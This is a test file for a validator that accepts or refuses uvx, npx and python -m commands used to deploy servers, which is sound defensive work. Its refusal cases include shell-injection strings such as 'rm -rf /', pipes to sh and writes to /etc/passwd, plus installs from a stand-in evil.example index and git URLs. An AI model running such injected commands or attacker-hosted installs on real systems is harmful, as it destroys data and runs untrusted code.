import { describe, expect, it } from "vitest";
import { refusal } from "~support/refusal.js";
import { COMMAND_TEXT, commandKind, parsePythonModule, sourceFrom } from "../../command.js";
import { NPX_TEXT } from "../npm/npx.js";
import { newest } from "../package-files.js";
import { parseConsoleScripts, normalisedName } from "./python-files.js";
import { UVX_TEXT, parseUvxCommand } from "./uvx.js";

describe("parseUvxCommand accepts", () => {
  it.each([
    ["uvx mcp-server-time", { package: "mcp-server-time", version: null, command: null, args: [] }],
    ["uvx mcp-server-fetch==2025.4.7", { package: "mcp-server-fetch", version: "2025.4.7", command: null, args: [] }],
    [
      "uvx mcp-server-git@1.2.0 --repository /data/repo",
      { package: "mcp-server-git", version: "1.2.0", command: null, args: ["--repository", "/data/repo"] },
    ],
    [
      "uvx mcp-server-time@latest --local-timezone=Europe/Paris",
      { package: "mcp-server-time", version: null, command: null, args: ["--local-timezone=Europe/Paris"] },
    ],
    [
      "uvx --from mcp-server-sqlite==0.6.2 mcp-server-sqlite --db-path /data/x.db",
      { package: "mcp-server-sqlite", version: "0.6.2", command: "mcp-server-sqlite", args: ["--db-path", "/data/x.db"] },
    ],
    [
      "uvx --from=awslabs.core-mcp-server awslabs.core-mcp-server",
      { package: "awslabs.core-mcp-server", version: null, command: "awslabs.core-mcp-server", args: [] },
    ],
    ["  uvx\tMy_Package.Name==1.0rc1  a  ", { package: "My_Package.Name", version: "1.0rc1", command: null, args: ["a"] }],
    [
      "uvx pkg==1.0.post2.dev3 x:y,z 50% user@example.com ~/x",
      { package: "pkg", version: "1.0.post2.dev3", command: null, args: ["x:y,z", "50%", "user@example.com", "~/x"] },
    ],
    ["uvx pkg==v2.1", { package: "pkg", version: "2.1", command: null, args: [] }],
    // After the package, options are the server's own (uvx stops parsing there), save the refused ones.
    ["uvx pkg -v --port 8080 -d", { package: "pkg", version: null, command: null, args: ["-v", "--port", "8080", "-d"] }],
    [
      "uvx pkg -c config.json -p 8080 -i x -f y -w z",
      { package: "pkg", version: null, command: null, args: ["-c", "config.json", "-p", "8080", "-i", "x", "-f", "y", "-w", "z"] },
    ],
  ])("%s", (input, expected) => expect(parseUvxCommand(input)).toEqual(expected));

  it("allows exactly 50 args", () => {
    expect(parseUvxCommand(`uvx pkg ${"a ".repeat(50)}`).args).toHaveLength(50);
  });
});

describe("parseUvxCommand refuses", () => {
  it.each([
    // shell syntax of every kind
    ["uvx pkg; rm -rf /", UVX_TEXT.shell],
    ["uvx pkg && id", UVX_TEXT.shell],
    ["uvx pkg | sh", UVX_TEXT.shell],
    ["uvx $(id)", UVX_TEXT.shell],
    ["uvx `id`", UVX_TEXT.shell],
    ["uvx pkg > /etc/passwd", UVX_TEXT.shell],
    ['uvx "pkg"', UVX_TEXT.shell],
    ["uvx pkg[cli]", UVX_TEXT.shell],
    ["uvx 'pkg>=1.0'", UVX_TEXT.shell],
    ["uvx pkg>=1.0", UVX_TEXT.shell],
    ["uvx pkg!=1.0", UVX_TEXT.shell],
    ["uvx pkg #x", UVX_TEXT.shell],
    ["uvx pkg\nid", UVX_TEXT.newline],
    ["uvx pkg\0", UVX_TEXT.newline],
    ["uvx pkgé", UVX_TEXT.unsupported],
    ["uvx", UVX_TEXT.missingPackage],
    ["   ", UVX_TEXT.empty],
    [`uvx ${"a".repeat(600)}`, UVX_TEXT.tooLong],
    [`uvx pkg ${"a ".repeat(51)}`, UVX_TEXT.tooManyArgs],
    ["UVX pkg", UVX_TEXT.mustStartWithUvx],
    ["uv tool run pkg", UVX_TEXT.mustStartWithUvx],
    // where packages come from
    ["uvx --index-url https://evil.example/simple pkg", UVX_TEXT.forbiddenOption("--index-url")],
    ["uvx --index-url=https://evil.example/simple pkg", UVX_TEXT.forbiddenOption("--index-url")],
    ["uvx -i https://evil.example/simple pkg", UVX_TEXT.forbiddenOption("-i")],
    ["uvx -ihttps://evil.example/simple pkg", UVX_TEXT.forbiddenOption("-i")],
    ["uvx --extra-index-url https://evil.example pkg", UVX_TEXT.forbiddenOption("--extra-index-url")],
    ["uvx --index evil=https://evil.example pkg", UVX_TEXT.forbiddenOption("--index")],
    ["uvx --default-index https://evil.example pkg", UVX_TEXT.forbiddenOption("--default-index")],
    ["uvx --find-links /tmp pkg", UVX_TEXT.forbiddenOption("--find-links")],
    ["uvx -f /tmp pkg", UVX_TEXT.forbiddenOption("-f")],
    ["uvx --trusted-host evil.example pkg", UVX_TEXT.forbiddenOption("--trusted-host")],
    ["uvx --no-index pkg", UVX_TEXT.forbiddenOption("--no-index")],
    // ... anywhere in the command, not only before the package
    ["uvx pkg --index-url https://evil.example/simple", UVX_TEXT.forbiddenOption("--index-url")],
    ["uvx pkg --extra-index-url=https://evil.example", UVX_TEXT.forbiddenOption("--extra-index-url")],
    ["uvx pkg --find-links=/tmp", UVX_TEXT.forbiddenOption("--find-links")],
    ["uvx --from pkg cmd --with evil", UVX_TEXT.forbiddenOption("--with")],
    // other packages, interpreters, projects, configuration
    ["uvx --with evil pkg", UVX_TEXT.forbiddenOption("--with")],
    ["uvx -w evil pkg", UVX_TEXT.forbiddenOption("-w")],
    ["uvx --with-editable /tmp/x pkg", UVX_TEXT.forbiddenOption("--with-editable")],
    ["uvx --with-requirements r.txt pkg", UVX_TEXT.forbiddenOption("--with-requirements")],
    ["uvx --python /tmp/evil pkg", UVX_TEXT.forbiddenOption("--python")],
    ["uvx -p 3.13 pkg", UVX_TEXT.forbiddenOption("-p")],
    ["uvx --directory /etc pkg", UVX_TEXT.forbiddenOption("--directory")],
    ["uvx --project /etc pkg", UVX_TEXT.forbiddenOption("--project")],
    ["uvx --config-file /etc/uv.toml pkg", UVX_TEXT.forbiddenOption("--config-file")],
    ["uvx -c /tmp/c.txt pkg", UVX_TEXT.forbiddenOption("-c")],
    ["uvx --constraints c.txt pkg", UVX_TEXT.forbiddenOption("--constraints")],
    ["uvx --isolated pkg", UVX_TEXT.onlyFrom],
    ["uvx -q pkg", UVX_TEXT.onlyFrom],
    ["uvx --from a --from b cmd", UVX_TEXT.onlyFrom],
    ["uvx --from", UVX_TEXT.missingPackage],
    ["uvx --from --index-url x", UVX_TEXT.forbiddenOption("--index-url")],
    ["uvx --from -x cmd", UVX_TEXT.missingPackage],
    ["uvx --from pkg", UVX_TEXT.missingCommand],
    ["uvx --from pkg -x", UVX_TEXT.onlyFrom],
    // URLs, paths, files and version control instead of a name
    ["uvx git+https://github.com/evil/pkg", UVX_TEXT.notFromIndex("git+https://github.com/evil/pkg")],
    ["uvx https://evil.example/pkg-1.0-py3-none-any.whl", UVX_TEXT.notFromIndex("https://evil.example/pkg-1.0-py3-none-any.whl")],
    ["uvx pkg@git+https://github.com/evil/pkg", UVX_TEXT.notFromIndex("pkg@git+https://github.com/evil/pkg")],
    ["uvx file:/etc/pkg", UVX_TEXT.notFromIndex("file:/etc/pkg")],
    ["uvx ./pkg", UVX_TEXT.notFromIndex("./pkg")],
    ["uvx ../pkg", UVX_TEXT.notFromIndex("../pkg")],
    ["uvx .", UVX_TEXT.notFromIndex(".")],
    ["uvx /tmp/pkg", UVX_TEXT.notFromIndex("/tmp/pkg")],
    ["uvx ~/pkg", UVX_TEXT.notFromIndex("~/pkg")],
    ["uvx pkg-1.0-py3-none-any.whl", UVX_TEXT.notFromIndex("pkg-1.0-py3-none-any.whl")],
    ["uvx pkg-1.0.tar.gz", UVX_TEXT.notFromIndex("pkg-1.0.tar.gz")],
    ["uvx foo.tar", UVX_TEXT.notFromIndex("foo.tar")],
    ["uvx foo.tbz", UVX_TEXT.notFromIndex("foo.tbz")],
    ["uvx foo.txz", UVX_TEXT.notFromIndex("foo.txz")],
    ["uvx foo.tlz", UVX_TEXT.notFromIndex("foo.tlz")],
    ["uvx foo.tar.lzma", UVX_TEXT.notFromIndex("foo.tar.lzma")],
    ["uvx foo.ZIP", UVX_TEXT.notFromIndex("foo.ZIP")],
    ["uvx server.py", UVX_TEXT.notFromIndex("server.py")],
    ["uvx --from git+https://github.com/evil/pkg cmd", UVX_TEXT.notFromIndex("git+https://github.com/evil/pkg")],
    ["uvx --from ./evil cmd", UVX_TEXT.notFromIndex("./evil")],
    // names, versions, commands
    ["uvx -pkg", UVX_TEXT.forbiddenOption("-p")],
    ["uvx _pkg", UVX_TEXT.invalidPackage("_pkg")],
    ["uvx pkg-", UVX_TEXT.invalidPackage("pkg-")],
    ["uvx pkg==", UVX_TEXT.invalidVersion("")],
    ["uvx pkg@", UVX_TEXT.invalidVersion("")],
    ["uvx pkg===1.0", UVX_TEXT.invalidVersion("=1.0")],
    ["uvx pkg~=1.0", UVX_TEXT.invalidPackage("pkg~=1.0".split("==")[0]!.split("@")[0]!)],
    ["uvx pkg==1.0+local", UVX_TEXT.invalidVersion("1.0+local")],
    ["uvx pkg==1.*", UVX_TEXT.shell],
    ["uvx pkg==latest", UVX_TEXT.invalidVersion("latest")],
    ["uvx pkg@next", UVX_TEXT.invalidVersion("next")],
    ["uvx --from pkg .cmd", UVX_TEXT.invalidCommand(".cmd")],
    ["uvx --from pkg cmd=x", UVX_TEXT.invalidCommand("cmd=x")],
  ])("%j", (input, message) => expect(refusal(() => parseUvxCommand(input))).toBe(message));
});

describe("the deploy command", () => {
  const opts = { allowFileGit: false };
  it("names its runtime by its first word", () => {
    expect(commandKind("npx -y pkg")).toBe("npx");
    expect(commandKind(" uvx pkg")).toBe("uvx");
    expect(commandKind("python3 -m x")).toBe("python");
    expect(commandKind("docker run x")).toBe("docker");
    expect(commandKind("bash -c id")).toBe(null);
    expect(commandKind(null)).toBe(null);
  });

  it("becomes a source: npm, PyPI, or a repository (with python -m's module)", () => {
    expect(sourceFrom("npx -y pkg@1.0.0 a", null, opts)).toEqual({ kind: "npm", package: "pkg", version: "1.0.0", args: ["a"] });
    expect(sourceFrom("uvx --from pkg==1.0 cmd a", "https://github.com/a/b", opts)).toEqual({
      kind: "pypi",
      package: "pkg",
      version: "1.0",
      command: "cmd",
      args: ["a"],
    });
    expect(sourceFrom("python -m my_server.main --stdio", "https://github.com/a/b", opts)).toEqual({
      kind: "git",
      url: "https://github.com/a/b",
      args: ["--stdio"],
      module: "my_server.main",
    });
    expect(sourceFrom("", "https://github.com/a/b", opts)).toEqual({ kind: "git", url: "https://github.com/a/b", args: [] });
    expect(sourceFrom(null, null, opts)).toBe(null);
  });

  it.each([
    ["bash -c id", COMMAND_TEXT.unknown],
    ["node server.js", COMMAND_TEXT.unknown],
    ["uv run server.py", COMMAND_TEXT.unknown],
    ["pipx run pkg", COMMAND_TEXT.unknown],
    ["node server.js; id", NPX_TEXT.shell],
    ["python -c id", COMMAND_TEXT.onlyModule],
    ["python server.py", COMMAND_TEXT.onlyModule],
    ["python -m", COMMAND_TEXT.onlyModule],
    ["python -m os.system;id", NPX_TEXT.shell.replace("npx", "python")],
    ["python -m ../evil", COMMAND_TEXT.invalidModule("../evil")],
    ["python -m a..b", COMMAND_TEXT.invalidModule("a..b")],
    ["python -m 1abc", COMMAND_TEXT.invalidModule("1abc")],
  ])("refuses %j", (command, message) => expect(refusal(() => sourceFrom(command, "https://github.com/a/b", opts))).toBe(message));

  it("python -m needs a repository", () => {
    expect(refusal(() => sourceFrom("python -m server", null, opts))).toBe(COMMAND_TEXT.pythonNeedsRepository);
    expect(parsePythonModule("python3 -m a.b_c x=1")).toEqual({ module: "a.b_c", args: ["x=1"] });
  });
});

describe("Python package metadata", () => {
  it("reads console scripts from entry_points.txt, nothing else", () => {
    const text =
      "[console_scripts]\nmcp-server-time = mcp_server_time:main\n# comment\nother=x:y [extra]\n\n[gui_scripts]\ngui = x:y\n[console_scripts]\n../evil = x:y\n";
    expect(parseConsoleScripts(text)).toEqual(["mcp-server-time", "other"]);
    expect(parseConsoleScripts("")).toEqual([]);
  });

  it("normalises names as PEP 503 does and finds the newest of some versions", () => {
    expect(normalisedName("My_Package.Name")).toBe("my-package-name");
    expect(normalisedName("a--b__c")).toBe("a-b-c");
    expect(newest(["1.9.0", "1.10.0", "1.2"])).toBe("1.10.0");
    expect(newest([])).toBe(undefined);
  });
});
